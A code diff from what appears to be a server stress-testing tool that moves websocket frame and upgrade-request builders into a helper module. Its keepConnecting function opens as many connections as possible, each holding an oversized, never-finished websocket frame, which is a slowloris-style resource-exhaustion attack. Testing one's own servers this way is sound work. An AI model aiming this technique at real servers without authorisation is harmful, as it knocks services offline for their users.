@@ -7,6 +7,7 @@ import type { Socket } from "socket.io-client";
 import type { Reply } from "../../shared/protocol.ts";
 import { openSocket } from "./open-socket.ts";
 import { randomNumbers } from "./random.ts";
+import { frameOf, upgradeOf } from "./raw-http.ts";
 
 export type Attack = "history" | "search" | "explain" | "sockets" | "watches" | "sets";
 
@@ -86,32 +87,14 @@ async function keepAsking(order: Starving, requestOf: (count: number) => readonl
 /** Milliseconds; longer than an attack. */
 const patience = 3_600_000;
 
-/** A masked text websocket frame: its header announces `bytes`, and `text` follows. */
-function frameOf(text: string, bytes = Buffer.byteLength(text)): Buffer {
-  const header = Buffer.alloc(14);
-  header[0] = 0x81;
-  header[1] = 0xff;
-  header.writeBigUInt64BE(BigInt(bytes), 2);
-  // The mask is 0, so the text is unchanged.
-  return Buffer.concat([header, Buffer.from(text)]);
-}
-
 const half = frameOf("x".repeat(3_500_000), 3_900_000);
 
 /**
  * Opens as many connections as possible, each with the beginning of a large packet that never ends, and keeps them for a moment.
  */
 async function keepConnecting({ url, key, requests, sockets }: Starving): Promise<void> {
-  const { host, hostname, port } = new URL(url);
-  const upgrade = [
-    "GET /socket.io/?EIO=4&transport=websocket HTTP/1.1",
-    `Host: ${host}`,
-    "Connection: Upgrade",
-    "Upgrade: websocket",
-    "Sec-WebSocket-Version: 13",
-    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
-    "\r\n",
-  ].join("\r\n");
+  const { hostname, port } = new URL(url);
+  const upgrade = upgradeOf(url);
   while (!isOver && asked < requests) {
     asked += 1;
     const socket = connect({ host: hostname, port: Number(port) });
